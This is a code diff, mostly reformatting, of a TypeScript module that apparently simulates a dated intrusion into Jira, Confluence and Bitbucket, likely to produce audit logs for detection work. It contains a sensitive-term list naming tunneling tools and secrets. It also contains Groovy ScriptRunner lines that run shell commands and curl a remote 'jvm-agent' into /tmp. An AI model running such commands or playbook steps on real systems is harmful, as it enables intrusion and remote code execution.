@@ -5,11 +5,29 @@
 import type { Rng } from '../rng';
 import type { Actor, Origin, Platform } from '../platform';
 import type { World } from '../world';
-import { BITBUCKET_SVC, BITBUCKET_SVC_HOME, JDOE2, MOVEWORKS, MOVEWORKS_HOME, PRIMARY, SLIVER, SMARTSHEET, SMARTSHEET_HOME } from './actors';
+import {
+  BITBUCKET_SVC,
+  BITBUCKET_SVC_HOME,
+  JDOE2,
+  MOVEWORKS,
+  MOVEWORKS_HOME,
+  PRIMARY,
+  SLIVER,
+  SMARTSHEET,
+  SMARTSHEET_HOME,
+} from './actors';
 
-const at = (day: number, h: number, m: number, s = 0, month = 10): number => Date.UTC(2023, month, day, h, m, s);
+const at = (day: number, h: number, m: number, s = 0, month = 10): number =>
+  Date.UTC(2023, month, day, h, m, s);
 
-export const SENSITIVE_TERMS = ['remote access', 'password', 'client secret', 'openconnect', 'cloudflared', 'token'];
+export const SENSITIVE_TERMS = [
+  'remote access',
+  'password',
+  'client secret',
+  'openconnect',
+  'cloudflared',
+  'token',
+];
 
 /** July 2023: the integrations doing their ordinary jobs for the last time before going quiet. */
 export function legitimateHistory(p: Platform, world: World, rng: Rng): void {
@@ -26,10 +44,22 @@ export function legitimateHistory(p: Platform, world: World, rng: Rng): void {
     }
     for (let i = 0; i < 4; i++) {
       const t = at(day, rng.int(15, 23), rng.int(0, 59), rng.int(0, 59), 6);
-      p.search(MOVEWORKS, t, MOVEWORKS_HOME, rng.pick(['laptop request', 'expense policy', 'holiday calendar', 'wifi']));
+      p.search(
+        MOVEWORKS,
+        t,
+        MOVEWORKS_HOME,
+        rng.pick(['laptop request', 'expense policy', 'holiday calendar', 'wifi']),
+      );
       p.pageViewed(MOVEWORKS, t + 5_000, MOVEWORKS_HOME, rng.pick(world.pages));
     }
-    if (day <= 7) p.clone(BITBUCKET_SVC, at(day, 3, rng.int(0, 59), 0, 6), BITBUCKET_SVC_HOME, rng.pick(world.repos), 'ssh');
+    if (day <= 7)
+      p.clone(
+        BITBUCKET_SVC,
+        at(day, 3, rng.int(0, 59), 0, 6),
+        BITBUCKET_SVC_HOME,
+        rng.pick(world.repos),
+        'ssh',
+      );
   }
 }
 
@@ -57,7 +87,13 @@ export function attack(p: Platform, world: World, rng: Rng, defenders: Defenders
     p.search(MOVEWORKS, t, PRIMARY, term, s('sensitive-search'));
   }
   p.login(SMARTSHEET, at(15, 16, 31, 3), PRIMARY, s('dormant-credential-use'));
-  p.search(SMARTSHEET, at(15, 16, 33, 27), PRIMARY, 'vpn password', s('dormant-credential-use', 'sensitive-search'));
+  p.search(
+    SMARTSHEET,
+    at(15, 16, 33, 27),
+    PRIMARY,
+    'vpn password',
+    s('dormant-credential-use', 'sensitive-search'),
+  );
 
   // Nov 15-16 reads of 202 wiki pages (the revealing titles first) and 36 Jira issues.
   const revealing = world.pages.filter((pg) => /remote|vpn|credential|tunnel/i.test(pg.title));
@@ -88,7 +124,10 @@ export function attack(p: Platform, world: World, rng: Rng, defenders: Defenders
 
   // Nov 16 14:36 a normal-looking user, created and put into groups within minutes.
   p.userCreated(SMARTSHEET, at(16, 14, 36, 20), PRIMARY, JDOE2, s('user-created'));
-  const groups = p.kind === 'dc' ? ['jira-software-users', 'confluence-users', 'stash-users', 'developers'] : ['jira-software-users', 'confluence-users', 'developers'];
+  const groups =
+    p.kind === 'dc'
+      ? ['jira-software-users', 'confluence-users', 'stash-users', 'developers']
+      : ['jira-software-users', 'confluence-users', 'developers'];
   t = at(16, 14, 37, 5);
   for (const g of groups) {
     p.addedToGroup(SMARTSHEET, t, PRIMARY, JDOE2, g, s('new-user-groups'));
@@ -103,7 +142,13 @@ export function attack(p: Platform, world: World, rng: Rng, defenders: Defenders
   p.search(JDOE2, at(20, 15, 14, 2), PRIMARY, 'onboarding', s('access-checks'));
 
   // Nov 22 14:18 ScriptRunner, installed and used by the Smartsheet account (a Jira administrator).
-  p.appInstalled(SMARTSHEET, at(22, 14, 18, 30), PRIMARY, { key: 'com.onresolve.jira.groovy.groovyrunner', name: 'ScriptRunner for Jira', version: '8.14.0' }, s('scriptrunner-install'));
+  p.appInstalled(
+    SMARTSHEET,
+    at(22, 14, 18, 30),
+    PRIMARY,
+    { key: 'com.onresolve.jira.groovy.groovyrunner', name: 'ScriptRunner for Jira', version: '8.14.0' },
+    s('scriptrunner-install'),
+  );
   const scripts = [
     'println "id".execute().text',
     'def p = ["/bin/sh", "-c", "curl -s https://idowall.com/jvm-agent -o /tmp/jvm-agent"].execute(); p.waitFor()',
@@ -123,13 +168,33 @@ export function attack(p: Platform, world: World, rng: Rng, defenders: Defenders
     if (i === 70) t = at(23, 7, 0);
     t += rng.int(90, 300) * 1000;
     p.repoViewed(BITBUCKET_SVC, t, PRIMARY, repo, s('repo-views'));
-    if (downloaded.has(repo)) p.archiveDownloaded(BITBUCKET_SVC, t + rng.int(15, 60) * 1000, PRIMARY, repo, s('archive-downloads'));
+    if (downloaded.has(repo))
+      p.archiveDownloaded(BITBUCKET_SVC, t + rng.int(15, 60) * 1000, PRIMARY, repo, s('archive-downloads'));
   });
 
   // Nov 23 15:58 the Smartsheet account joins an admin group; then the defenders contain it.
-  p.addedToGroup(SMARTSHEET, at(23, 15, 58, 12), PRIMARY, SMARTSHEET, p.kind === 'dc' ? 'jira-administrators' : 'site-admins', s('admin-group-add'));
-  p.userDeactivated(defenders.admin, at(23, 16, 35, 20), defenders.adminOrigin, SMARTSHEET, s('contain-smartsheet'));
-  p.userDeactivated(defenders.admin, at(23, 17, 23, 41), defenders.adminOrigin, JDOE2, s('contain-created-user'));
+  p.addedToGroup(
+    SMARTSHEET,
+    at(23, 15, 58, 12),
+    PRIMARY,
+    SMARTSHEET,
+    p.kind === 'dc' ? 'jira-administrators' : 'site-admins',
+    s('admin-group-add'),
+  );
+  p.userDeactivated(
+    defenders.admin,
+    at(23, 16, 35, 20),
+    defenders.adminOrigin,
+    SMARTSHEET,
+    s('contain-smartsheet'),
+  );
+  p.userDeactivated(
+    defenders.admin,
+    at(23, 17, 23, 41),
+    defenders.adminOrigin,
+    JDOE2,
+    s('contain-created-user'),
+  );
 
   // Nov 24 last activity: the Moveworks token still works; the disabled Smartsheet account does not.
   p.login(MOVEWORKS, at(24, 10, 44, 2), PRIMARY, s('last-activity'));
